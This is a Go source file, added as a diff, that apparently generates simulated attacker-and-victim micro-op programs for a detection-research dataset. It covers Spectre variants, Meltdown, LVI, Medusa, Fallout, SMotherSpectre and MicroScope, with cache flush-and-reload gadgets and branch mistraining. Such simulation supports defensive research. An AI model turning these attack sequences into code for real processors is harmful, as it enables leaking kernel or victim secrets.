@@ -1,0 +1,612 @@
+// Package attacks implements complete, runnable micro-op programs for every
+// attack category in the paper's evaluation: the Spectre family
+// (PHT/BTB/RSB/STL), fault-based transients (Meltdown, LVI, three Medusa
+// variants, Fallout), memory attacks (Rowhammer, DRAMA), contention channels
+// (SMotherSpectre, Leaky Buddies, RDRAND), predictor attacks (BranchScope),
+// replay attacks (MicroScope), KASLR bypass (FlushConflict) and the classic
+// cache attacks (Flush+Flush, Flush+Reload, Prime+Probe).
+//
+// Each program embeds both the attacker and the victim (the paper likewise
+// simulates full attacks in gem5) and tags instructions with attack phases
+// so datasets can checkpoint setup / mistrain / leak / transmit windows.
+// `seed` varies addresses and secrets; `scale` the number of leak rounds.
+package attacks
+
+import (
+	"fmt"
+	"math/rand"
+
+	"evax/internal/isa"
+)
+
+// Spec describes one attack generator.
+type Spec struct {
+	Name  string
+	Class isa.Class
+	// Build constructs the program. Secrets and layout vary with seed;
+	// the number of leak iterations scales with scale (min 1).
+	Build func(seed int64, scale int) *isa.Program
+}
+
+// All returns the attack registry in a stable order (21 categories).
+func All() []Spec {
+	return []Spec{
+		{"spectre-pht", isa.ClassSpectrePHT, SpectrePHT},
+		{"spectre-btb", isa.ClassSpectreBTB, SpectreBTB},
+		{"spectre-rsb", isa.ClassSpectreRSB, SpectreRSB},
+		{"spectre-stl", isa.ClassSpectreSTL, SpectreSTL},
+		{"meltdown", isa.ClassMeltdown, Meltdown},
+		{"lvi", isa.ClassLVI, LVI},
+		{"medusa-cache-index", isa.ClassMedusaCacheIndex, MedusaCacheIndex},
+		{"medusa-unaligned", isa.ClassMedusaUnaligned, MedusaUnaligned},
+		{"medusa-shadow-rep", isa.ClassMedusaShadowREP, MedusaShadowREP},
+		{"fallout", isa.ClassFallout, Fallout},
+		{"rowhammer", isa.ClassRowhammer, Rowhammer},
+		{"drama", isa.ClassDRAMA, DRAMA},
+		{"smotherspectre", isa.ClassSMotherSpectre, SMotherSpectre},
+		{"branchscope", isa.ClassBranchScope, BranchScope},
+		{"microscope", isa.ClassMicroScope, MicroScope},
+		{"leaky-buddies", isa.ClassLeakyBuddies, LeakyBuddies},
+		{"rdrand-covert", isa.ClassRDRANDCovert, RDRANDCovert},
+		{"flushconflict", isa.ClassFlushConflict, FlushConflict},
+		{"flush-flush", isa.ClassFlushFlush, FlushFlush},
+		{"flush-reload", isa.ClassFlushReload, FlushReload},
+		{"prime-probe", isa.ClassPrimeProbe, PrimeProbe},
+	}
+}
+
+// ByClass returns the spec for an attack class.
+func ByClass(c isa.Class) (Spec, error) {
+	for _, s := range All() {
+		if s.Class == c {
+			return s, nil
+		}
+	}
+	return Spec{}, fmt.Errorf("attacks: no generator for class %v", c)
+}
+
+// Shared layout. Seeded offsets perturb concrete addresses per build so no
+// two instances share an exact footprint.
+const (
+	probeBase   = 0x80_0000
+	probeStride = 4096
+	victimBase  = 0x10_0000
+	boundAddr   = 0x20_0000
+	slowAddr    = 0x24_0000
+	scratchBase = 0x30_0000
+	numGuesses  = 8
+)
+
+func clampScale(scale int) int {
+	if scale < 1 {
+		return 1
+	}
+	return scale
+}
+
+// layout derives seeded addresses and the secret value.
+type layout struct {
+	probe, victim, bound, slow, scratch uint64
+	kernel                              uint64
+	secret                              int64
+	rng                                 *rand.Rand
+}
+
+// ReloadLog returns the address where the transmit gadget logs its per-guess
+// timing deltas (the most recent round's measurements).
+func (l layout) ReloadLog() uint64 { return l.probe + numGuesses*probeStride + 0x8000 }
+
+// Layout exposes the seeded layout for a given seed (tests and experiment
+// drivers use it to locate secrets, probe arrays and logs).
+func Layout(seed int64) struct {
+	Probe, Victim, Kernel, ReloadLog uint64
+	Secret                           int64
+} {
+	l := newLayout(seed)
+	return struct {
+		Probe, Victim, Kernel, ReloadLog uint64
+		Secret                           int64
+	}{l.probe, l.victim, l.kernel, l.ReloadLog(), l.secret}
+}
+
+func newLayout(seed int64) layout {
+	rng := rand.New(rand.NewSource(seed))
+	off := func() uint64 { return uint64(rng.Intn(64)) * 64 }
+	return layout{
+		probe:   probeBase + off(),
+		victim:  victimBase + off(),
+		bound:   boundAddr + off(),
+		slow:    slowAddr + off(),
+		scratch: scratchBase + off(),
+		kernel:  isa.KernelBase + 0x1000 + off(),
+		secret:  int64(1 + rng.Intn(numGuesses-1)),
+		rng:     rng,
+	}
+}
+
+// emitReload appends the transmit gadget: time a reload of every probe slot
+// and record the "fast" guess. guessReg receives the recovered value.
+func emitReload(b *isa.Builder, l layout, guessReg isa.Reg) {
+	b.SetPhase(isa.PhaseTransmit)
+	b.InitReg(isa.R25, l.probe)
+	b.Li(isa.R16, 0) // guess
+	b.Li(isa.R17, numGuesses)
+	b.Li(guessReg, -1)
+	b.Label("reload")
+	b.LFence()
+	b.RdTSC(isa.R18)
+	b.Load(isa.R19, isa.R25, isa.R16, probeStride, 0)
+	b.LFence() // order the timing read after the probe load
+	b.RdTSC(isa.R20)
+	b.Sub(isa.R21, isa.R20, isa.R18)
+	b.InitReg(isa.R24, l.ReloadLog())
+	b.Store(isa.R21, isa.R24, isa.R16, 8, 0) // log the measurement
+	b.Li(isa.R22, 40)                        // hit threshold in cycles
+	b.Br(isa.CondUGE, isa.R21, isa.R22, "slowGuess")
+	b.Mov(guessReg, isa.R16)
+	b.Label("slowGuess")
+	b.Addi(isa.R16, isa.R16, 1)
+	b.Br(isa.CondNE, isa.R16, isa.R17, "reload")
+	b.SetPhase(isa.PhaseNone)
+}
+
+// emitFlushProbe appends a flush of the whole probe array (setup/recover).
+func emitFlushProbe(b *isa.Builder, l layout, phase isa.Phase, tag string) {
+	b.SetPhase(phase)
+	b.InitReg(isa.R26, l.probe)
+	b.Li(isa.R14, 0)
+	b.Li(isa.R15, numGuesses)
+	b.Label("flushp" + tag)
+	b.CLFlush(isa.R26, isa.R14, probeStride, 0)
+	b.Addi(isa.R14, isa.R14, 1)
+	b.Br(isa.CondNE, isa.R14, isa.R15, "flushp"+tag)
+	b.SetPhase(isa.PhaseNone)
+}
+
+// SpectrePHT is the canonical bounds-check-bypass: mistrain a conditional
+// branch in-bounds, flush the bound so it resolves late, then supply an
+// out-of-bounds index whose wrong-path loads encode the secret in the cache.
+func SpectrePHT(seed int64, scale int) *isa.Program {
+	scale = clampScale(scale)
+	l := newLayout(seed)
+	b := isa.NewBuilder("spectre-pht", isa.ClassSpectrePHT)
+	secretOff := int64(100)
+	const trainIters = 13
+	rounds := 6 * scale
+	idxTable := l.scratch
+	b.InitMem(l.bound, 16)
+	b.InitMem(l.victim+uint64(secretOff)*8, uint64(l.secret))
+	// Per-round index tables: the out-of-bounds iteration lands at a
+	// seeded position each round so the predictor cannot lock onto a
+	// periodic pattern (real exploits randomize for the same reason).
+	for r := 0; r < rounds; r++ {
+		oobPos := 7 + l.rng.Intn(trainIters-7)
+		for i := 0; i < trainIters; i++ {
+			v := uint64(0)
+			if i == oobPos {
+				v = uint64(secretOff)
+			}
+			b.InitMem(idxTable+uint64(r*trainIters+i)*8, v)
+		}
+	}
+	b.InitReg(isa.R1, l.victim)
+	b.InitReg(isa.R2, l.bound)
+	b.InitReg(isa.R3, l.probe)
+	b.InitReg(isa.R23, idxTable)
+
+	b.Li(isa.R10, 0)
+	b.Li(isa.R11, int64(rounds))
+	b.Li(isa.R27, 0) // running table offset (round * trainIters)
+	b.Label("round")
+	emitFlushProbe(b, l, isa.PhaseSetup, "r")
+	// Warm the secret line so the wrong-path chain outruns resolution.
+	b.SetPhase(isa.PhaseSetup)
+	b.Prefetch(isa.R1, isa.R0, 0, secretOff*8)
+
+	// Mistrain and attack share the same loop, so branch history is
+	// identical along both and only the out-of-bounds iteration
+	// mispredicts — the classic bounds-check-bypass structure.
+	b.SetPhase(isa.PhaseMistrain)
+	b.Li(isa.R4, 0)
+	b.Li(isa.R5, trainIters)
+	b.Label("spec")
+	b.Add(isa.R13, isa.R27, isa.R4)
+	b.Load(isa.R12, isa.R23, isa.R13, 8, 0) // index for this iteration
+	b.CLFlush(isa.R2, isa.R0, 0, 0)         // bound resolves late
+	b.Load(isa.R6, isa.R2, isa.R0, 0, 0)    // bound
+	b.Br(isa.CondUGE, isa.R12, isa.R6, "oob")
+	b.SetPhase(isa.PhaseLeak)
+	b.Load(isa.R7, isa.R1, isa.R12, 8, 0)          // (transient) read
+	b.Load(isa.R8, isa.R3, isa.R7, probeStride, 0) // cache encode
+	b.SetPhase(isa.PhaseMistrain)
+	b.Label("oob")
+	b.Addi(isa.R4, isa.R4, 1)
+	b.Br(isa.CondNE, isa.R4, isa.R5, "spec")
+
+	emitReload(b, l, isa.R30)
+	b.Addi(isa.R27, isa.R27, trainIters)
+	b.Addi(isa.R10, isa.R10, 1)
+	b.Br(isa.CondNE, isa.R10, isa.R11, "round")
+	return b.MustBuild()
+}
+
+// SpectreBTB poisons the branch target buffer: an indirect jump is trained
+// to a leak gadget, then redirected transiently when its real target
+// arrives late from a flushed pointer load.
+func SpectreBTB(seed int64, scale int) *isa.Program {
+	scale = clampScale(scale)
+	l := newLayout(seed)
+	b := isa.NewBuilder("spectre-btb", isa.ClassSpectreBTB)
+	ptrAddr := l.scratch
+	b.InitMem(l.victim, uint64(l.secret))
+	b.InitReg(isa.R1, l.victim)
+	b.InitReg(isa.R2, l.probe)
+	b.InitReg(isa.R3, ptrAddr)
+
+	b.Jmp("main")
+	// The leak gadget (architecturally unreachable in the attack round).
+	b.Label("gadget")
+	gadget := b.Here()
+	b.SetPhase(isa.PhaseLeak)
+	b.Load(isa.R7, isa.R1, isa.R0, 0, 0)           // secret
+	b.Load(isa.R8, isa.R2, isa.R7, probeStride, 0) // encode
+	b.SetPhase(isa.PhaseNone)
+	b.Jmp("back")
+	b.Label("legit")
+	legit := b.Here()
+	b.Nop()
+	b.Jmp("back")
+
+	b.Label("main")
+	b.Li(isa.R10, 0)
+	b.Li(isa.R11, int64(6*scale))
+	b.Label("round")
+	emitFlushProbe(b, l, isa.PhaseSetup, "r")
+	// Train the BTB: indirect jump to the gadget repeatedly. R9 flags
+	// the attack iteration so "back" knows when to move to transmit.
+	b.SetPhase(isa.PhaseMistrain)
+	b.Li(isa.R9, 0)
+	b.Li(isa.R4, 6)
+	b.Label("train")
+	b.Li(isa.R5, int64(gadget))
+	b.Store(isa.R5, isa.R3, isa.R0, 0, 0)
+	b.Load(isa.R6, isa.R3, isa.R0, 0, 0)
+	b.Label("ijmp_site")
+	b.IJmp(isa.R6) // same static jump both in training and attack
+	b.Label("back")
+	b.Br(isa.CondNE, isa.R9, isa.R0, "xmit") // attack round completed
+	b.Addi(isa.R4, isa.R4, -1)
+	b.Br(isa.CondNE, isa.R4, isa.R0, "train")
+
+	// Attack: real target is legit, but it arrives from a flushed load,
+	// so the BTB serves the gadget transiently.
+	b.SetPhase(isa.PhaseLeak)
+	b.Li(isa.R9, 1)
+	b.Li(isa.R5, int64(legit))
+	b.Store(isa.R5, isa.R3, isa.R0, 0, 0)
+	b.Serialize() // drain the store to memory
+	b.CLFlush(isa.R3, isa.R0, 0, 0)
+	b.Load(isa.R6, isa.R3, isa.R0, 0, 0) // slow pointer load
+	b.Jmp("ijmp_site")
+
+	b.Label("xmit")
+	emitReload(b, l, isa.R30)
+	b.Addi(isa.R10, isa.R10, 1)
+	b.Br(isa.CondNE, isa.R10, isa.R11, "round")
+	return b.MustBuild()
+}
+
+// SpectreRSB overflows the 16-entry return address stack with deep
+// recursion; the outermost returns then mispredict to the instruction after
+// the RET, where the leak gadget sits.
+func SpectreRSB(seed int64, scale int) *isa.Program {
+	scale = clampScale(scale)
+	l := newLayout(seed)
+	b := isa.NewBuilder("spectre-rsb", isa.ClassSpectreRSB)
+	b.InitMem(l.victim, uint64(l.secret))
+	b.InitReg(isa.R1, l.victim)
+	b.InitReg(isa.R2, l.probe)
+
+	b.Li(isa.R10, 0)
+	b.Li(isa.R11, int64(6*scale))
+	b.Label("round")
+	emitFlushProbe(b, l, isa.PhaseSetup, "r")
+	b.SetPhase(isa.PhaseMistrain)
+	b.Li(isa.R4, 22) // depth > RAS entries: overflow wraps the stack
+	b.Call("recurse")
+	emitReload(b, l, isa.R30)
+	b.Addi(isa.R10, isa.R10, 1)
+	b.Br(isa.CondNE, isa.R10, isa.R11, "round")
+	b.Jmp("end")
+
+	b.Label("recurse")
+	b.Addi(isa.R4, isa.R4, -1)
+	b.Br(isa.CondEQ, isa.R4, isa.R0, "unwind")
+	b.Call("recurse")
+	b.Label("unwind")
+	b.Ret()
+	// Transient continuation for underflowed RET predictions.
+	b.SetPhase(isa.PhaseLeak)
+	b.Load(isa.R7, isa.R1, isa.R0, 0, 0)
+	b.Load(isa.R8, isa.R2, isa.R7, probeStride, 0)
+	b.SetPhase(isa.PhaseNone)
+	b.Label("end")
+	b.Nop()
+	return b.MustBuild()
+}
+
+// SpectreSTL exploits speculative store bypass: a store whose address
+// resolves late is invisible to a younger load, which reads the stale
+// secret and leaks it before the violation replay.
+func SpectreSTL(seed int64, scale int) *isa.Program {
+	scale = clampScale(scale)
+	l := newLayout(seed)
+	b := isa.NewBuilder("spectre-stl", isa.ClassSpectreSTL)
+	b.InitMem(l.victim, uint64(l.secret)) // stale secret
+	b.InitReg(isa.R1, l.victim)
+	b.InitReg(isa.R2, l.probe)
+	b.InitReg(isa.R5, 48) // 48/7/7 = 0: the store offset resolves to 0
+	b.InitReg(isa.R6, 7)
+
+	b.Li(isa.R10, 0)
+	b.Li(isa.R11, int64(8*scale))
+	b.Label("round")
+	emitFlushProbe(b, l, isa.PhaseSetup, "r")
+	b.SetPhase(isa.PhaseLeak)
+	// Overwrite the secret with zero through a slow address.
+	b.Div(isa.R7, isa.R5, isa.R6)
+	b.Div(isa.R7, isa.R7, isa.R6)
+	b.Store(isa.R0, isa.R1, isa.R7, 8, 0) // address unresolved
+	b.Load(isa.R8, isa.R1, isa.R0, 0, 0)  // bypasses: stale secret
+	b.Load(isa.R9, isa.R2, isa.R8, probeStride, 0)
+	emitReload(b, l, isa.R30)
+	// Restore the secret for the next round.
+	b.Li(isa.R12, l.secret)
+	b.Store(isa.R12, isa.R1, isa.R0, 0, 0)
+	b.Addi(isa.R10, isa.R10, 1)
+	b.Br(isa.CondNE, isa.R10, isa.R11, "round")
+	return b.MustBuild()
+}
+
+// Meltdown reads kernel memory: retirement of the faulting load is delayed
+// behind a flushed load, giving the dependent encode time to run.
+func Meltdown(seed int64, scale int) *isa.Program {
+	scale = clampScale(scale)
+	l := newLayout(seed)
+	b := isa.NewBuilder("meltdown", isa.ClassMeltdown)
+	b.InitMem(l.kernel, uint64(l.secret))
+	b.InitReg(isa.R1, l.kernel)
+	b.InitReg(isa.R2, l.probe)
+	b.InitReg(isa.R3, l.slow)
+
+	b.Li(isa.R10, 0)
+	b.Li(isa.R11, int64(6*scale))
+	b.Label("round")
+	emitFlushProbe(b, l, isa.PhaseSetup, "r")
+	b.SetPhase(isa.PhaseSetup)
+	b.Syscall()                      // kernel activity loads the target line region
+	b.Prefetch(isa.R1, isa.R0, 0, 0) // target kernel line cached
+	b.CLFlush(isa.R3, isa.R0, 0, 0)  // retirement delay
+	b.SetPhase(isa.PhaseLeak)
+	b.Load(isa.R9, isa.R3, isa.R0, 0, 0)           // slow older load
+	b.LoadK(isa.R4, isa.R1, isa.R0, 0, 0)          // faulting kernel read
+	b.Load(isa.R5, isa.R2, isa.R4, probeStride, 0) // transient encode
+	emitReload(b, l, isa.R30)
+	b.Addi(isa.R10, isa.R10, 1)
+	b.Br(isa.CondNE, isa.R10, isa.R11, "round")
+	return b.MustBuild()
+}
+
+// LVI injects attacker data into a victim load through the microcode-assist
+// forwarding path: the victim transiently dereferences the poisoned value.
+func LVI(seed int64, scale int) *isa.Program {
+	scale = clampScale(scale)
+	l := newLayout(seed)
+	b := isa.NewBuilder("lvi", isa.ClassLVI)
+	victimPtr := l.victim + 8
+	alias := victimPtr + 0x3000 // same page offset, different page
+	b.InitMem(victimPtr, 0)     // victim's real pointer value (benign)
+	b.InitReg(isa.R1, victimPtr)
+	b.InitReg(isa.R2, alias)
+	b.InitReg(isa.R3, l.probe)
+	b.InitReg(isa.R4, l.slow)
+
+	b.Li(isa.R10, 0)
+	b.Li(isa.R11, int64(8*scale))
+	b.Label("round")
+	emitFlushProbe(b, l, isa.PhaseSetup, "r")
+	b.SetPhase(isa.PhaseSetup)
+	b.CLFlush(isa.R4, isa.R0, 0, 0)
+	b.SetPhase(isa.PhaseLeak)
+	b.Li(isa.R5, l.secret)
+	b.Store(isa.R5, isa.R2, isa.R0, 0, 0)          // attacker poison at alias
+	b.Load(isa.R9, isa.R4, isa.R0, 0, 0)           // delay retirement
+	b.LoadAssist(isa.R6, isa.R1, isa.R0, 0, 0)     // victim load: injected
+	b.Load(isa.R7, isa.R3, isa.R6, probeStride, 0) // victim computes on poison
+	emitReload(b, l, isa.R30)
+	b.Addi(isa.R10, isa.R10, 1)
+	b.Br(isa.CondNE, isa.R10, isa.R11, "round")
+	return b.MustBuild()
+}
+
+// medusaCommon builds a Medusa-style MDS attack (Meltdown variant through
+// microarchitectural buffers) with a configurable gadget mix.
+func medusaCommon(name string, class isa.Class, seed int64, scale int,
+	gadget func(b *isa.Builder, l layout)) *isa.Program {
+	scale = clampScale(scale)
+	l := newLayout(seed)
+	b := isa.NewBuilder(name, class)
+	b.InitReg(isa.R1, l.victim)
+	b.InitReg(isa.R2, l.probe)
+	b.InitReg(isa.R3, l.scratch)
+	b.InitReg(isa.R4, l.slow)
+
+	b.Li(isa.R10, 0)
+	b.Li(isa.R11, int64(8*scale))
+	b.Label("round")
+	emitFlushProbe(b, l, isa.PhaseSetup, "r")
+	b.SetPhase(isa.PhaseSetup)
+	b.CLFlush(isa.R4, isa.R0, 0, 0)
+	b.SetPhase(isa.PhaseLeak)
+	b.Li(isa.R5, l.secret)
+	gadget(b, l)
+	emitReload(b, l, isa.R30)
+	b.Addi(isa.R10, isa.R10, 1)
+	b.Br(isa.CondNE, isa.R10, isa.R11, "round")
+	return b.MustBuild()
+}
+
+// MedusaCacheIndex is the Medusa variant leaking through cache-indexing
+// assists: line-splitting accesses force the assist path.
+func MedusaCacheIndex(seed int64, scale int) *isa.Program {
+	return medusaCommon("medusa-cache-index", isa.ClassMedusaCacheIndex, seed, scale,
+		func(b *isa.Builder, l layout) {
+			// Store the secret, then split-line assist loads around it.
+			b.Store(isa.R5, isa.R3, isa.R0, 0, 0x38)
+			b.Load(isa.R9, isa.R4, isa.R0, 0, 0)            // delay
+			b.LoadAssist(isa.R6, isa.R3, isa.R0, 0, 0x1038) // 4K-alias split access
+			b.Load(isa.R7, isa.R2, isa.R6, probeStride, 0)
+		})
+}
+
+// MedusaUnaligned is the variant exploiting unaligned store-to-load
+// forwarding.
+func MedusaUnaligned(seed int64, scale int) *isa.Program {
+	return medusaCommon("medusa-unaligned", isa.ClassMedusaUnaligned, seed, scale,
+		func(b *isa.Builder, l layout) {
+			b.Store(isa.R5, isa.R3, isa.R0, 0, 4) // unaligned-style store
+			b.Load(isa.R9, isa.R4, isa.R0, 0, 0)
+			b.LoadAssist(isa.R6, isa.R3, isa.R0, 0, 0x1004)
+			b.Load(isa.R7, isa.R2, isa.R6, probeStride, 0)
+		})
+}
+
+// MedusaShadowREP is the variant leaking from shadow REP MOV block copies.
+func MedusaShadowREP(seed int64, scale int) *isa.Program {
+	return medusaCommon("medusa-shadow-rep", isa.ClassMedusaShadowREP, seed, scale,
+		func(b *isa.Builder, l layout) {
+			// A short copy loop whose loads take the assist path.
+			b.Li(isa.R12, 0)
+			b.Li(isa.R13, 4)
+			b.Store(isa.R5, isa.R3, isa.R0, 0, 0)
+			b.Label("rep")
+			b.Load(isa.R9, isa.R4, isa.R0, 0, 0)
+			b.LoadAssist(isa.R6, isa.R3, isa.R12, 8, 0x1000)
+			b.Store(isa.R6, isa.R3, isa.R12, 8, 0x2000)
+			b.Load(isa.R7, isa.R2, isa.R6, probeStride, 0)
+			b.Addi(isa.R12, isa.R12, 1)
+			b.Br(isa.CondNE, isa.R12, isa.R13, "rep")
+		})
+}
+
+// Fallout leaks recent stores through the store buffer: the attacker's
+// assist load at a 4K-aliased address receives the victim's in-flight
+// store data.
+func Fallout(seed int64, scale int) *isa.Program {
+	scale = clampScale(scale)
+	l := newLayout(seed)
+	b := isa.NewBuilder("fallout", isa.ClassFallout)
+	victimAddr := l.victim
+	attackerAddr := victimAddr + 0x5000 // same low 12 bits
+	b.InitReg(isa.R1, victimAddr)
+	b.InitReg(isa.R2, attackerAddr)
+	b.InitReg(isa.R3, l.probe)
+	b.InitReg(isa.R4, l.slow)
+
+	b.Li(isa.R10, 0)
+	b.Li(isa.R11, int64(8*scale))
+	b.Label("round")
+	emitFlushProbe(b, l, isa.PhaseSetup, "r")
+	b.SetPhase(isa.PhaseSetup)
+	b.CLFlush(isa.R4, isa.R0, 0, 0)
+	b.SetPhase(isa.PhaseLeak)
+	// Victim stores a secret.
+	b.Li(isa.R5, l.secret)
+	b.Store(isa.R5, isa.R1, isa.R0, 0, 0)
+	// Attacker reads its own aliased address via the assist path and
+	// transiently receives the victim's store-buffer data.
+	b.Load(isa.R9, isa.R4, isa.R0, 0, 0)
+	b.LoadAssist(isa.R6, isa.R2, isa.R0, 0, 0)
+	b.Load(isa.R7, isa.R3, isa.R6, probeStride, 0)
+	emitReload(b, l, isa.R30)
+	b.Addi(isa.R10, isa.R10, 1)
+	b.Br(isa.CondNE, isa.R10, isa.R11, "round")
+	return b.MustBuild()
+}
+
+// SMotherSpectre leaks through execution-port contention: the victim's
+// secret steers wrong-path division spam, and the attacker times its own
+// divisions to observe the contention.
+func SMotherSpectre(seed int64, scale int) *isa.Program {
+	scale = clampScale(scale)
+	l := newLayout(seed)
+	b := isa.NewBuilder("smotherspectre", isa.ClassSMotherSpectre)
+	b.InitMem(l.victim, uint64(l.secret&1)) // secret bit
+	b.InitMem(l.bound, 1)
+	b.InitReg(isa.R1, l.victim)
+	b.InitReg(isa.R2, l.bound)
+	b.InitReg(isa.R13, 97)
+	b.InitReg(isa.R14, 3)
+
+	b.Li(isa.R10, 0)
+	b.Li(isa.R11, int64(40*scale))
+	b.Label("round")
+	// Mistrain: the gate branch is always taken in training.
+	b.SetPhase(isa.PhaseMistrain)
+	b.Li(isa.R4, 8)
+	b.Label("train")
+	b.Load(isa.R5, isa.R2, isa.R0, 0, 0)
+	b.Br(isa.CondEQ, isa.R5, isa.R0, "spam") // never taken in training
+	b.Addi(isa.R4, isa.R4, -1)
+	b.Br(isa.CondNE, isa.R4, isa.R0, "train")
+	// Attack: flush the gate value; the wrong path runs the div spam
+	// only when the secret bit is set.
+	b.SetPhase(isa.PhaseLeak)
+	b.CLFlush(isa.R2, isa.R0, 0, 0)
+	b.Load(isa.R5, isa.R2, isa.R0, 0, 0)     // slow gate
+	b.Load(isa.R6, isa.R1, isa.R0, 0, 0)     // secret bit (cached)
+	b.Br(isa.CondEQ, isa.R5, isa.R6, "spam") // mispredicted when bit==1
+	b.Jmp("probeport")
+	b.Label("spam")
+	for i := 0; i < 6; i++ {
+		b.Div(isa.R15, isa.R13, isa.R14)
+	}
+	b.Label("probeport")
+	// Attacker times its own division (port contention visible).
+	b.SetPhase(isa.PhaseTransmit)
+	b.RdTSC(isa.R20)
+	b.Div(isa.R16, isa.R13, isa.R14)
+	b.Div(isa.R16, isa.R16, isa.R14)
+	b.RdTSC(isa.R21)
+	b.Sub(isa.R22, isa.R21, isa.R20)
+	b.SetPhase(isa.PhaseNone)
+	b.Addi(isa.R10, isa.R10, 1)
+	b.Br(isa.CondNE, isa.R10, isa.R11, "round")
+	return b.MustBuild()
+}
+
+// MicroScope replays a victim instruction thousands of times via repeated
+// assist/replay squashes, denoising another side channel.
+func MicroScope(seed int64, scale int) *isa.Program {
+	scale = clampScale(scale)
+	l := newLayout(seed)
+	b := isa.NewBuilder("microscope", isa.ClassMicroScope)
+	b.InitMem(l.victim, uint64(l.secret))
+	b.InitReg(isa.R1, l.victim)
+	b.InitReg(isa.R2, l.probe)
+	b.InitReg(isa.R3, l.scratch)
+
+	b.Li(isa.R10, 0)
+	b.Li(isa.R11, int64(120*scale)) // replay storm
+	b.Label("round")
+	b.SetPhase(isa.PhaseLeak)
+	b.Li(isa.R5, 1)
+	b.Store(isa.R5, isa.R3, isa.R0, 0, 0x1000)
+	b.LoadAssist(isa.R6, isa.R3, isa.R0, 0, 0) // replayed "victim" op
+	b.Load(isa.R7, isa.R1, isa.R0, 0, 0)       // victim work under replay
+	b.Load(isa.R8, isa.R2, isa.R7, probeStride, 0)
+	b.SetPhase(isa.PhaseNone)
+	b.Addi(isa.R10, isa.R10, 1)
+	b.Br(isa.CondNE, isa.R10, isa.R11, "round")
+	return b.MustBuild()
+}
